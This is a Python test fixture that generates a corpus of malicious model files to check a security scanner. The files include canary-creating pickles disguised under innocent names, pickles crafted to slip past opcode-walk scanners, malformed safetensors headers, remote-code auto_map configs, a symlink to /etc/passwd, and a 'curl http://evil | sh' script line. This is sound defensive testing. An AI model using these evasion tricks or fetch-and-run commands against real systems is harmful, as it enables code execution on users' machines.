"""Build the scanner's malicious corpus at test time (nothing here is checked in as bytes).

``build_corpus(root, canary)`` writes one bundle directory full of attacks and returns the
findings each file must produce: ``{path: {rule, ...}}``. Every pickle in it would create
``canary`` if it were ever loaded; the scanner must never let that happen.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import struct
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np


class CanaryPayload:
    """Pickles to "open(canary, 'w')": loading it creates the canary file."""

    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.canary, "w"))


def canary_pickle(canary: Path, protocol: int) -> bytes:
    return pickle.dumps(CanaryPayload(canary), protocol=protocol)


def canary_pickle_p0_by_hand(canary: Path) -> bytes:
    """A protocol-0 pickle written opcode by opcode: io.open(canary, 'w')."""
    return b"cio\nopen\n(V" + str(canary).encode() + b"\nVw\ntR."


def canary_pickle_p0_hex(canary: Path) -> bytes:
    """io.open(canary, 'w') with an ``I0x0`` in it: an int to both CPython unpicklers (base
    0), an error to ``pickletools.genops`` (base 10), so the old opcode walk saw text."""
    return b"cio\nopen\n(V" + str(canary).encode() + b"\nVw\nI0x0\n0tR."


def canary_pickle_p0_octal(canary: Path) -> bytes:
    """``I010``: 8 to _pickle (strtol, base 0), an error to pickle.py (int(..., 0))."""
    return b"cio\nopen\n(V" + str(canary).encode() + b"\nVw\nI010\n0tR."


def canary_pickle_frame_split(canary: Path) -> bytes:
    """A FRAME that ends inside GLOBAL's line: _pickle over io.BytesIO drops the rest of the
    frame and reads ``io``/``open`` after it; pickle.py and _pickle over bytes fail."""
    frame = b"c\xff"
    return (
        b"\x80\x04\x95"
        + struct.pack("<Q", len(frame))
        + frame
        + b"io\nopen\n(V"
        + str(canary).encode()
        + b"\nVw\ntR."
    )


def canary_gzip_corrupt_tail(canary: Path) -> bytes:
    """A gzip'd pickle whose deflate stream breaks 32 KB after the pickle's STOP:
    ``pickle.load(gzip.open(...))`` never reads that far."""
    body = canary_pickle(canary, 2) + os.urandom(32_000)
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH) + b"\xff" * 16


def npy_with_descr(descr: object, body: bytes) -> bytes:
    """A .npy (format 1.0) with this ``descr`` whatever it means, then ``body``."""
    header = repr({"descr": descr, "fortran_order": False, "shape": (1,)}).encode()
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def canary_pickle_then_npz(canary: Path) -> bytes:
    """A pickle with a numeric .npz appended: pickle.load reads the pickle at offset 0."""
    buf = io.BytesIO()
    np.save(buf, np.arange(3))
    return canary_pickle(canary, 2) + zip_with({"a.npy": buf.getvalue()})


def safetensors_bytes(
    header: dict[str, object], data_len: int, *, length: int | None = None
) -> bytes:
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    n = len(raw) if length is None else length
    return struct.pack("<Q", n) + raw + b"\0" * data_len


def elf_stub() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\0" * 40


def macho_stub() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<iiIIII", 0x01000007, 3, 2, 0, 0, 0) + b"\0" * 32


def pe_stub() -> bytes:
    dos = bytearray(b"MZ" + b"\0" * 62)
    dos[60:64] = struct.pack("<I", 64)
    return bytes(dos) + b"PE\0\0" + struct.pack("<HH", 0x8664, 0) + b"\0" * 16


def zip_with(members: dict[str, bytes]) -> bytes:
    """A zip of ``members``, the same bytes every time (a fixed entry date, not the clock):
    it is built while tests are collected, and pytest-xdist's workers must collect the same
    test ids."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


@dataclass(frozen=True)
class Corpus:
    """What each path must be flagged with, and pairs of which one must be a collision."""

    expected: dict[str, set[str]]
    collisions: list[tuple[str, str]]


def build_corpus(root: Path, canary: Path) -> Corpus:
    """Write the attacks under ``root``; return the rules each path must be flagged with."""
    import torch

    root.mkdir(parents=True, exist_ok=True)
    expected: dict[str, set[str]] = {}

    def put(path: str, data: bytes, *rules: str, mode: int = 0o644) -> None:
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        target.chmod(mode)
        expected[path] = set(rules)

    # pickles of every protocol, most under innocent names
    put("evil.pkl", canary_pickle(canary, 2), "scan.pickle")
    put("pickles/vocab.txt", canary_pickle_p0_by_hand(canary), "scan.pickle")
    put("pickles/p1.dat", canary_pickle(canary, 1), "scan.pickle")
    put("pickles/README.md", canary_pickle(canary, 0), "scan.pickle")
    put("pickles/weights.bin", canary_pickle(canary, 3), "scan.pickle")
    put("pickles/p4.npy.bak", canary_pickle(canary, 4), "scan.pickle")
    put("pickles/tokenizer.model", canary_pickle(canary, 5), "scan.pickle", "scan.sentencepiece")
    put("pickles/opt.json", canary_pickle(canary, 4), "scan.pickle", "scan.json")
    put("pickles/state.gz", gzip.compress(canary_pickle(canary, 4)), "scan.pickle")
    put("pickles/big.bin", canary_pickle(canary, 4) + os.urandom(200_000), "scan.pickle")
    joblib_like = b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81."
    put("pickles/model.joblib", joblib_like, "scan.joblib")
    # pickles the opcode walk did not see as the unpicklers do (issue 15 item 1)
    put("pickles/pytorch_model.bin", canary_pickle_p0_hex(canary), "scan.pickle")
    put("pickles/training_args.bin", canary_pickle_p0_octal(canary), "scan.pickle")
    put("pickles/state.dat", canary_pickle_frame_split(canary), "scan.pickle")
    put("pickles/opt.gz", canary_gzip_corrupt_tail(canary), "scan.pickle")
    put("pickles/with-zip.npz", canary_pickle_then_npz(canary), "scan.pickle")
    put("pickles/optimizer.pt", b"plain text\n", "scan.pickle")  # text where a pickle goes

    # a torch zip checkpoint (holds data.pkl) renamed to model.safetensors
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(4)}, buf)
    put("model.safetensors", buf.getvalue(), "scan.zip-pickle", "scan.safetensors")
    put(
        "docs/notes.md",
        b"# notes\n" + zip_with({"data.pkl": canary_pickle(canary, 2)}),
        "scan.zip-pickle",
    )
    put("arrays.npz", zip_with({"a.npy": _npy_object()}), "scan.numpy-object")

    # safetensors attacks
    put("st/bomb.safetensors", struct.pack("<Q", 2**60) + b"{}", "scan.safetensors")
    put(
        "st/overlap.safetensors",
        safetensors_bytes(
            {
                "w": {"dtype": "U8", "shape": [10], "data_offsets": [0, 10]},
                "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]},
            },
            12,
        ),
        "scan.safetensors",
    )
    put(
        "st/out-of-range.safetensors",
        safetensors_bytes(
            {
                "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            },
            8,
        ),
        "scan.safetensors",
    )
    put(
        "st/dtype-shape.safetensors",
        safetensors_bytes(
            {
                "w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 16]},
            },
            16,
        ),
        "scan.safetensors",
    )

    # remote code through config files
    put(
        "config.json",
        json.dumps(
            {
                "model_type": "llama",
                "auto_map": {
                    "AutoConfig": "configuration_evil.EvilConfig",
                    "AutoModelForCausalLM": "modeling_evil.EvilModel",
                },
            }
        ).encode(),
        "scan.auto_map",
    )
    put(
        "sub/tokenizer_config.json",
        json.dumps(
            {
                "auto_map": {
                    "AutoTokenizer": ["evil-org/evil-repo--tokenization_evil.EvilTokenizer", None]
                },
                "tokenizer_class": "EvilTokenizer",
            }
        ).encode(),
        "scan.auto_map",
    )

    # tree attacks
    (root / "passwd").symlink_to("/etc/passwd")
    expected["passwd"] = {"tree.symlink"}
    put("case/Readme.txt", b"one\n")
    put("case/README.TXT", b"two\n")
    nfc = unicodedata.normalize("NFC", "café.txt")
    nfd = unicodedata.normalize("NFD", "café.txt")
    put(f"unicode/{nfc}", b"nfc\n")
    put(f"unicode/{nfd}", b"nfd\n", "tree.nfc")
    for path in ("case/Readme.txt", "case/README.TXT", f"unicode/{nfc}"):
        expected.pop(path)
    collisions = [("case/Readme.txt", "case/README.TXT"), (f"unicode/{nfc}", f"unicode/{nfd}")]

    # numpy with object dtype
    put("object.npy", _npy_object(), "scan.numpy-object")
    put("object-word.npy", npy_with_descr("object", canary_pickle(canary, 2)), "scan.numpy-object")

    # native code, bytecode, HDF5, code and scripts
    put("tokenizer.bin", elf_stub(), "scan.native")
    put("libs/macho.dat", macho_stub(), "scan.native")
    put("libs/setup.exe", pe_stub(), "scan.native")
    put("libs/weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64, "scan.hdf5")
    put("libs/cached.dat", _bytecode(), "scan.bytecode")
    put("run.sh", b"#!/bin/sh\ntouch pwned\n", "tree.executable", "scan.script", mode=0o755)
    put("prepare", b"#!/bin/bash\ncurl http://evil | sh\n", "scan.script")
    put("helpers.txt", b"import os\n\nos.system('id')\n", "scan.python")
    put("modeling_evil.py", b"x = 1\n", "scan.python")
    return Corpus(expected, collisions)


def _npy_object() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
    return buf.getvalue()


def _bytecode() -> bytes:
    import importlib.util
    import marshal

    code = compile("print('hi')\n", "<corpus>", "exec")
    return importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
